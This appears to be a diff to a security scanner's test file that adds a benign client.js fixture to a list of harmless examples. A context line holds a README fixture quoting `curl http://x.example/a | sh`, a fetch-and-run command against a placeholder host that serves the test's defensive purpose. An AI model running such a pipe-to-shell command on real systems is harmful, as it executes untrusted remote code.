@@ -97,6 +97,7 @@ const harmless: readonly (readonly [string, string, string | object])[] = [
   ['a service', 'docker-compose.yml', 'a:\n  image: x\n  volumes: ["./data:/data"]\n'],
   ['a server', 'config.properties', 'inference_address=http://0.0.0.0:8080\n'],
   ['a page', 'card.html', "<script>document.title = 'A model'</script><img src='a.png'>"],
+  ['a client', 'client.js', 'fetch(process.env.URL)\nlocalStorage.x = 1\n'],
   ['JavaScript', 'load.js', "const data = await fetch('/model.json')\n"],
   ['advice', 'README.md', 'A scanner that knows antivirus tools. pip install x\n'],
   ['an example', 'README.md', 'Rows such as `curl http://x.example/a | sh` are labelled 1.\n'],
